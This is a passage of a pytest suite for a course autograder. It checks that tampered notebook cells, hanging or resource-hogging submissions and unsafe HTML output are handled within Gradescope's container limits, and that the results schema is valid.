    assert "The grader shows this answer as plain text" in page and "My answer" in html.unescape(page)
    graded = hw8["base"] / "autograde" / "course" / "autograded" / "scripts" / "hw8" / "Visualizing_BERT.ipynb"
    text = graded.read_text()
    assert "application/javascript" not in text and "text/html" not in text


def test_tampered_cells_lose_their_own_points_with_a_message(hw8):
    messages = hw8["rows"]["tampered_cells"]["messages"]
    assert "Summarization:test_1f was edited" in messages
    assert "Summarization:test_1a appears 2 times" in messages
    assert "Summarization:q1c_code is missing" in messages
    failed = _failed(hw8["gradescope"]["tampered_cells"]["tests"])
    assert failed == WRONG_FAILS | {"1(c) shift_matrix(16, k=5)"}


def test_hangs_and_resources_are_bounded(hw8):
    gs = hw8["gradescope"]
    assert gs["hangs_on_import"]["_seconds"] < gs["model"]["_seconds"] + 3 * CASE_TIMEOUT, \
        "an import that hangs must cost one timeout, not one per check"
    hog = gs["resource_hog"]
    assert len(json.dumps(hog)) < 200_000
    sizes = [p.stat().st_size for p in hw8["base"].rglob("*") if p.is_file() and not p.is_symlink()]
    assert max(sizes) < 100 * 2**20, "a submission wrote a large file outside its sandbox"
    for name, run in gs.items():
        TIMINGS[f"gradescope {name}"] = run["_seconds"]
    TIMINGS["nbgrader model (trusted checks)"] = float(hw8["rows"]["model"]["seconds"])


# Gradescope's default container (its autograder documentation): 768 MB, half a CPU, 10 minutes, root without
# CAP_SYS_ADMIN, so the sandbox runs without namespaces. `make gradescope-check` runs the whole corpus so on another
# Python (Debian trixie's 3.13 and torch 2.6); this is the same on this machine's Python, for a few submissions.
GRADESCOPE_LIMITS = {"memory_bytes": 768 * 2**20, "cpu": 0.5, "timeout": 600}
IN_CONTAINER = ("model", "wrong", "reply_bomb", "checkpoint_bomb", "proc_spy")


@pytest.mark.skipif(not sandbox.is_root() or not Path("/sys/fs/cgroup/memory").is_dir() or not shutil.which("capsh"),
                    reason="needs root, cgroup v1 memory/cpu controllers and capsh")
def test_gradescope_within_its_default_limits_and_schema(hw8):
    from grading.gradescope_check import results_schema_problems
    # two containers of half a CPU at a time: one core, and the other pytest worker keeps the other
    with ThreadPoolExecutor(max_workers=2) as pool:
        futures = {name: pool.submit(gradescope_run, hw8["bundle"], hw8["base"] / "gs-limited" / name,
                                     hw8["subs"][name], sandbox.SANDBOX_UID + 200 + k, GRADESCOPE_LIMITS)
                   for k, name in enumerate(IN_CONTAINER)}
    for name, future in futures.items():
        results = future.result()
        run = results.pop("_run")
        seconds = results.pop("_seconds")
        assert results_schema_problems(results) == [], name
        assert results["score"] == EXPECTED[name][0], (name, sorted(_failed(results["tests"])))
        assert run["oom_kills"] == 0 and not run["timed_out"] and run["peak_bytes"] <= GRADESCOPE_LIMITS["memory_bytes"]
        assert "no namespaces here" in results["output"], results["output"][:500]
        TIMINGS[f"gradescope {name} at 768 MB / half a CPU (peak {run['peak_bytes'] / 2**20:.0f} MiB)"] = seconds


def test_results_schema_check_finds_what_gradescope_would_refuse():
    from grading.gradescope_check import results_schema_problems
    from grading.harness import TestResult, write_results
    with tempfile.TemporaryDirectory() as tmp:
        good = write_results(Path(tmp) / "results.json", [TestResult("a", 1, 2, "x")], "out", 3.2)
    assert results_schema_problems(good) == []
    assert results_schema_problems({**good, "visibility": "everyone"})
    assert results_schema_problems({**good, "tests": [{**good["tests"][0], "score": 3}]})
    assert results_schema_problems({k: v for k, v in good.items() if k != "execution_time"})


@pytest.fixture(scope="module", autouse=True)
def report_timings():
    """After this module's tests, print the measured times (pytest -s shows them): a report, not a check."""
    yield
    for name, seconds in TIMINGS.items():
        print(f"timing: {name}: {seconds:.1f} s")
